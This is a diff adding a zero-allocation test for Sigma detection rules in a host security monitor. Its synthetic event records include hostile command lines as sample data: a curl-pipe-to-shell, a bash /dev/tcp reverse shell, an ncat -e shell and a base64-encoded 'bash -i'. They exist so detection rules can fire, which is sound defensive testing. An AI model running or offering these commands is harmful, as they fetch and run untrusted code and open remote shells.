@@ -18,6 +18,9 @@
 #include "engine/pipeline.h"
 #include "loader/ring_merge.h"
 #include "rules/rules_file.h"
+#include "sigma/with_rules.h"
+#include "sigma/sigma_rules.h"
+#include "test/support/record_builders.h"
 #include "test/support/fake_ring.h"
 #include "test/support/record_mix.h"
 
@@ -173,6 +176,69 @@ TEST_CASE("zero heap allocations from the two rings into the engine: the agent's
 	}
 	CHECK(drained == kRounds * mix.size());
 	CHECK(engine.pipeline.stats().records == drained);
+	CHECK(allocations == 0);
+}
+
+// Records the Sigma test corpus (test/fixtures/sigma) matches: every
+// string test form, a regex on the joined command line, a parent's command
+// line, a user name, addresses, files.
+std::vector<std::vector<uint8_t>> sigma_records()
+{
+	test::Task parent{20, 1, "sshd", 1'000'000'000}, child{21, 20, "sh", 1'000'000'000};
+	return {
+		test::exec_record(parent, "/usr/sbin/sshd", {"sshd: alice [priv]"}),
+		test::exec_record(child, "/bin/sh", {"sh", "-c", "curl http://x | sh"}, 0, 0, "/tmp/w"),
+		test::exec_record(child, "/bin/bash", {"bash", "-i", ">&", "/dev/tcp/10.0.0.1/4444"}),
+		test::exec_record(child, "/usr/bin/ncat", {"ncat", "192.0.2.1", "-e", "/bin/bash"}),
+		test::exec_record(child, "/usr/bin/certutil", {"certutil", "/decode", "a"}),
+		test::exec_record(child, "/bin/echo", {"echo", "YmFzaCAtaQ=="}),
+		test::exec_record(child, "/bin/foo", {"/bin/foo"}),
+		test::exec_record(child, "/usr/bin/python3", {"python3", "-c", "print('*star?')"}),
+		test::net_record(child, GUARD_RECORD_NET_CONNECT, AF_INET, test::ipv4(203, 0, 113, 5), 4444),
+		test::net_record(child, GUARD_RECORD_NET_ACCEPT, AF_INET, test::ipv4(203, 0, 113, 9), 55000),
+		test::file_record(child, GUARD_RECORD_FILE_RENAME, "/tmp/a", "/usr/local/bin/a", 0),
+	};
+}
+
+TEST_CASE("zero heap allocations per event with Sigma rules: the test corpus beside the default rules")
+{
+	if (!sigma::available())
+		return; // built without Sigma (make SIGMA=0)
+	int devnull = ::open("/dev/null", O_WRONLY | O_CLOEXEC);
+	REQUIRE(devnull >= 0);
+	BatchWriter out{devnull, 1 << 20};
+	Pipeline pipeline{out, 1'700'000'000'000'000'000, {false, 4096}};
+	rules::LoadedRules loaded = rules::load_default_rules();
+	sigma::Report report =
+		sigma::add_sigma_paths(loaded, {std::string(GUARD_SOURCE_DIR) + "/test/fixtures/sigma"}, {});
+	REQUIRE(report.loaded > 20);
+	pipeline.set_rules(std::move(loaded.set));
+	auto pool = test::record_mix();
+	for (auto &r : sigma_records())
+		pool.push_back(r);
+
+	// Warm-up: RE2 builds its DFA's states for the texts it sees the first
+	// time (within its fixed memory budget), then reuses them.
+	for (int pass = 0; pass < 2; pass++)
+		for (auto &r : pool)
+			pipeline.on_record(r);
+	out.flush();
+	uint64_t alerts_before = pipeline.stats().alerts;
+
+	constexpr size_t kRecords = 300'000;
+	g_allocations = 0;
+	g_counting = true;
+	for (size_t i = 0; i < kRecords; i++)
+		pipeline.on_record(pool[i % pool.size()]);
+	out.flush();
+	g_counting = false;
+	uint64_t allocations = g_allocations.load();
+	::close(devnull);
+
+	size_t sigma_rules_fired = 0;
+	pipeline.for_each_alert_count([&](std::string_view id, uint64_t n) { sigma_rules_fired += n > 0 && id.starts_with("T "); });
+	CHECK(sigma_rules_fired >= 10);
+	CHECK(pipeline.stats().alerts > alerts_before);
 	CHECK(allocations == 0);
 }
 
